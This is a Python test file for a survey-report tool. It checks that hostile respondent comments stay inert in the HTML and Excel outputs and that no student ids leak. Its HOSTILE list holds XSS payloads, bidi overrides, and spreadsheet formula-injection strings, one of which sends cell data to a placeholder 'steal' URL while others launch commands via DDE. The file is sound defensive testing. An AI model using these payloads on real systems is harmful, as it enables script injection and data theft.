"""Hostile respondent text stays inert; inputs are never touched; no id leaks.

A study whose free-text answers carry script, event handlers, HTML entities, bidi
overrides and spreadsheet formulas is reported, and the report is opened in Debian's
headless Chromium: nothing runs, nothing is fetched, and every answer is shown as the
very text the respondent typed. The workbook is read back with openpyxl: no cell is a
formula and no text starts with a formula character. Every input file has the same
SHA-256 after the run, nothing is written outside the output folder, and no student
id from the survey or the records appears in any output.
"""

from __future__ import annotations

import csv
import hashlib
import io
import warnings
import zipfile

import openpyxl
import pytest

from helpers import chromium_page
from peereval.errors import PeerevalWarning
from peereval.report import run_study, write_report
from peereval.report._excel import FORMULA_PREFIXES

HOSTILE = [
    '<script>window.__pwned = "script"; alert("script")</script>',
    '<img src="x" onerror="window.__pwned = \'img\'; alert(1)">',
    "<svg onload=\"window.__pwned='svg'\"></svg>",
    '"><iframe src="javascript:window.__pwned=1"></iframe>',
    "&lt;b&gt;not bold&lt;/b&gt; &amp; &#60;script&#62; &copy;",
    "\u202eevil\u202c reversed? \u2066isolate\u2069 \u200fmark",
    '=HYPERLINK("http://example.invalid/steal?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "عالی بود <b>واقعاً</b>",
]


def _digests(folder):
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The sample study with hostile comments, run and written once."""
    import shutil

    import peereval.datasets

    root = tmp_path_factory.mktemp("hostile")
    study = root / "study"
    shutil.copytree(peereval.datasets.sample_dir(), study)
    survey = study / "survey.csv"
    rows = list(csv.reader(io.StringIO(survey.read_text(encoding="utf-8-sig"))))
    column = rows[0].index("Q5")
    kept = [i for i in range(3, len(rows)) if rows[i][rows[0].index("Finished")] == "True"]
    for text, i in zip(HOSTILE, kept[5:], strict=False):
        rows[i][column] = text
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    survey.write_text(buffer.getvalue(), encoding="utf-8-sig")
    before = _digests(study)
    out = root / "out"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", PeerevalWarning)
        report = run_study(study / "study.toml")
        write_report(report, out)
    ids = {r[rows[0].index("student_id")] for r in rows[3:]} - {""}
    return {"study": study, "out": out, "report": report, "before": before, "ids": ids,
            "root": root}


def test_every_hostile_comment_reaches_the_report(hostile):
    table = next(t for t in hostile["report"].tables() if t.key == "comments_Q5")
    shown = set(table.frame["comment"])
    missing = [text for text in HOSTILE if text.strip() not in {s.strip() for s in shown}]
    assert missing == []


def test_nothing_runs_or_loads_in_chromium_and_the_text_is_shown_as_typed(hostile):
    with chromium_page(hostile["out"] / "report.html") as page:
        log = page.peereval_log
        assert page.evaluate("window.__pwned === undefined")
        assert log["dialogs"] == []
        assert [m for m in log["console"] if m[0] in ("error", "warning", "pageerror")] == []
        assert all(url.startswith(("file://", "data:")) for url in log["requests"])
        assert page.evaluate("document.scripts.length") == 0
        assert page.evaluate("document.querySelectorAll('iframe, svg[onload], "
                             "img[onerror], b').length") == 0
        cells = page.evaluate(
            "Array.from(document.querySelectorAll('td[dir=auto]')).map(td => "
            "[td.textContent, getComputedStyle(td).unicodeBidi])")
    texts = {text.strip() for text, _ in cells}
    for text in HOSTILE:
        assert text.strip() in texts, text
    # a dir attribute isolates the cell, so an unclosed override cannot leak out of it
    bidi = [style for text, style in cells if "\u202e" in text]
    assert bidi
    assert all(style in ("isolate", "plaintext", "isolate-override")
                        for style in bidi)


def test_the_workbook_has_no_formula_and_no_text_starting_like_one(hostile):
    path = hostile["out"] / "tables.xlsx"
    book = openpyxl.load_workbook(path)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.lstrip(" \u00a0").startswith(FORMULA_PREFIXES), \
                        (sheet.title, cell.coordinate, cell.value)
    assert any("HYPERLINK" in t for t in texts)
    with zipfile.ZipFile(path) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.endswith(".xml"))
    assert b"<f>" not in xml
    assert b"<f " not in xml


def test_inputs_are_unchanged_and_nothing_is_written_beside_them(hostile):
    assert _digests(hostile["study"]) == hostile["before"]
    assert sorted(p.name for p in hostile["root"].iterdir()) == ["out", "study"]


def test_no_student_id_appears_in_any_output(hostile):
    ids = hostile["ids"]
    assert len(ids) > 100
    html = (hostile["out"] / "report.html").read_text(encoding="utf-8")
    book = openpyxl.load_workbook(hostile["out"] / "tables.xlsx")
    cells = {str(c.value) for s in book.worksheets for r in s.iter_rows() for c in r
             if c.value is not None}
    figures = " ".join(p.read_text(encoding="utf-8", errors="replace")
                       for p in (hostile["out"] / "figures").glob("*.svg"))
    leaked = sorted(i for i in ids if i in html or i in cells or i in figures)
    assert leaked == []
